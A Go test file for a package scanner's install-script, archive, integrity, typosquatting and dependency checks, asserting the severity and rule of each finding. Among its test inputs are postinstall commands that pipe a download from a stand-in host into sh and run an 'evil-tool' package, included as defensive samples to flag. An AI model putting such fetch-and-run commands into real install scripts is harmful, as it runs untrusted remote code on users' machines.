package packaging

import (
	"strings"
	"testing"

	"gauntlet/catalog"
	"gauntlet/finding"
	"gauntlet/internal/engine/check"
	"gauntlet/result"
)

// found runs all checks over a package and returns their findings, a line each.
func found(t *testing.T, facts *result.Package) (lines []string) {
	t.Helper()
	res := check.Run(&catalog.Catalog{}, Checks(), check.Options{Package: &check.PackageFacts{Label: "p@1", Facts: facts}})
	if len(res.Problems) > 0 {
		t.Errorf("problems: %+v", res.Problems)
	}
	for _, f := range res.Findings {
		if len(f.Content) != 64 || !strings.HasPrefix(f.Location.File, "p@1") {
			t.Errorf("%s has the content %q and the place %+v", f.Rule, f.Content, f.Location)
		}
		lines = append(lines, f.Severity.String()+" "+string(f.Rule))
	}
	return lines
}

func script(command string) *result.Package {
	return &result.Package{Scripts: []result.InstallScript{{Package: "p@1", Event: "postinstall", Command: command, Own: true, File: "package.json", Line: 3}}}
}

// Each check has what fires and the honest package most like it.
func TestFindings(t *testing.T) {
	for _, tt := range []struct {
		name  string
		facts *result.Package
		want  string
	}{
		{"nothing", &result.Package{Maintainers: []string{"ada"}, AgeDays: 1}, ""},
		{"a script", script("node setup.js"), "medium GNT-601"},
		{"a script that loads and runs", script("curl -s https://x.example/i | sh"), "high GNT-601"},
		{"a script that holds a program", script(`node -e "require('https')"`), "high GNT-601"},
		{"a script that loads and runs nothing", script("curl --version"), "medium GNT-601"},
		{"a script that compiles", script("npm run build; build: rimraf dist && NODE_ENV=production tsc -p . && shx chmod +x dist/index.js"), "low GNT-601"},
		{"a script that compiles and then runs something", script("npm run build; build: tsc && node dist/setup.js"), "medium GNT-601"},
		{"a script that runs what is put in its place", script("tsc $(node x)"), "medium GNT-601"},
		{"a script that has a package loaded", script("npm exec evil-tool"), "medium GNT-601"},
		{"a script that nobody could read", script(""), "medium GNT-601"},
		{"a script of a dependency", &result.Package{Scripts: []result.InstallScript{{Package: "d@1", Event: "install", Command: `node -e "require('./build')"`}}}, "low GNT-601"},
		{"a script of a dependency that loads and runs", &result.Package{Scripts: []result.InstallScript{{Package: "d@1", Event: "install", Command: "curl x | sh"}}}, "medium GNT-601"},
		{"a path that leads out", &result.Package{Faults: []result.ArchiveFault{{Kind: result.FaultOutside, Path: "../x", Detail: "leads out"}}}, "high GNT-602"},
		{"a bomb", &result.Package{Faults: []result.ArchiveFault{{Kind: result.FaultBomb, Detail: "unpacks to much"}}}, "high GNT-602"},
		{"an archive that is large or broken", &result.Package{Faults: []result.ArchiveFault{{Kind: result.FaultLimit, Detail: "large"}, {Kind: result.FaultBroken, Detail: "cut"}}}, ""},
		{"another archive", &result.Package{Integrity: "sha512 of the registry", Mismatch: "it differs"}, "critical GNT-603"},
		{"the archive of the registry", &result.Package{Integrity: "sha512 of the registry"}, ""},
		{"an imitated name", &result.Package{Imitates: &result.Likeness{Name: "other", How: "one letter differs", Severity: finding.Medium}}, "medium GNT-604"},
		{"an advisory", &result.Package{Advisories: []result.PackageAdvisory{{ID: "GHSA-1", Package: "p", Version: "1", Severity: finding.Critical, Own: true}}}, "critical GNT-605"},
		{"a dependency by address", &result.Package{Odd: []result.OddDependency{{Kind: result.OddAddress, Package: "x", Detail: "a URL"}}}, "medium GNT-607"},
		{"a dependency in another archive", &result.Package{Odd: []result.OddDependency{{Kind: result.OddBundled, Package: "x@1", Detail: "inside"}}}, "low GNT-607"},
		{"a dependency without a hash", &result.Package{Odd: []result.OddDependency{{Kind: result.OddUnverified, Package: "x@1", Detail: "none"}}}, "low GNT-607"},
		{"one that nobody has published", &result.Package{Odd: []result.OddDependency{{Kind: result.OddFree, Package: "x@1", Detail: "free"}}}, "medium GNT-607"},
		{"one under another name", &result.Package{Odd: []result.OddDependency{{Kind: result.OddAlias, Package: "x is y@1", Detail: "alias"}}}, "info GNT-607"},
		{"one for another system", &result.Package{Odd: []result.OddDependency{{Kind: result.OddAbsent, Package: "x@1", Detail: "absent"}}}, "info GNT-607"},
		{"another manifest", &result.Package{Odd: []result.OddDependency{{Kind: result.OddManifest, Package: "p@1", Detail: "it differs"}}}, "high GNT-608"},
		{"deprecated", &result.Package{Deprecated: "use q"}, "low GNT-606"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			if got := strings.Join(found(t, tt.facts), ", "); got != tt.want {
				t.Errorf("got %q, want %q", got, tt.want)
			}
		})
	}
}

// A decision about a finding holds for the next version, until what it is about changes.
func TestFingerprintsOutliveVersions(t *testing.T) {
	first := func(label, version string) finding.Finding {
		facts := &result.Package{Deprecated: "use q"}
		return check.Run(&catalog.Catalog{}, Checks(), check.Options{Package: &check.PackageFacts{Label: label + "@" + version, Facts: facts}}).Findings[0]
	}
	if a, b := first("p", "1"), first("p", "2"); a.Fingerprint != b.Fingerprint || a.Content != b.Content {
		t.Errorf("%s and %s", a.Fingerprint, b.Fingerprint)
	}
}
